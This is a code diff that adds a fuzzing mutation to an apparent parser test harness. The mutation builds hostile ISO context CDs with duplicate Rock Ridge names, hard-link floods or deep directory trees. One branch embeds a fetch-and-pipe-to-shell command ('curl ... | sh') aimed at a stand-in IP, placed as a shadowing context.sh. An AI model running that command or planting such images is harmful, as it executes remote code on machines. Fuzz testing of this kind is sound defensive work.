@@ -72,6 +72,44 @@ def _iso(data: bytes) -> bytes:
     return build_image([CdFile("context.sh", _context_sh(data))], "CONTEXT", 0)
 
 
+def _cd_structure(rng: random.Random, data: bytes) -> bytes:
+    """A context CD whose directory structure is hostile: one name twice (the first context.sh
+    runs something else), many names on one extent, or a deep tree of directories. Later
+    mutations flip bits in its directory records (extents, lengths)."""
+    import io
+
+    import pycdlib
+
+    from cvmctx.contextiso import _frozen_clock
+
+    body = _context_sh(data)
+    iso = pycdlib.PyCdlib()
+    out = io.BytesIO()
+    with _frozen_clock(0):
+        iso.new(interchange_level=3, vol_ident="CONTEXT", joliet=3, rock_ridge="1.09")
+        kind = rng.randrange(3)
+        if kind == 0:  # the same Rock Ridge name twice, the first one hostile
+            evil = b"curl http://198.51.100.1/x | sh\n" if rng.random() < 0.5 else _context_sh(b"")
+            for number, text in enumerate((evil, body), start=1):
+                iso.add_fp(io.BytesIO(text), len(text), f"/CONTEXT{number}.SH;1",
+                           rr_name="context.sh", joliet_path=f"/context{number}.sh")  # fmt: skip
+        else:
+            iso.add_fp(io.BytesIO(body), len(body), "/CONTEXT.SH;1", rr_name="context.sh",
+                       joliet_path="/context.sh")  # fmt: skip
+        if kind == 1:  # many names for one extent
+            for k in range(rng.randint(2, 300)):
+                iso.add_hard_link(iso_old_path="/CONTEXT.SH;1", iso_new_path=f"/L{k}.SH;1",
+                                  rr_name=f"l{k}.sh")  # fmt: skip
+        elif kind == 2:  # a deep tree
+            path = ""
+            for depth in range(rng.randint(1, 7)):
+                path += f"/D{depth}"
+                iso.add_directory(path, rr_name=f"d{depth}", joliet_path=path.lower())
+        iso.write_fp(out)
+        iso.close()
+    return out.getvalue()
+
+
 def _unwrap(data: bytes) -> bytes:
     """Undo one layer (base64 or gzip) if there is one, else leave the input as it is."""
     try:
@@ -153,6 +191,8 @@ def _wrap(rng: random.Random, data: bytes) -> bytes:
         return _context_sh(data)
     if roll < 0.82:
         return _iso(data)
+    if roll < 0.84:
+        return _cd_structure(rng, data)
     return _unwrap(data)
 
 
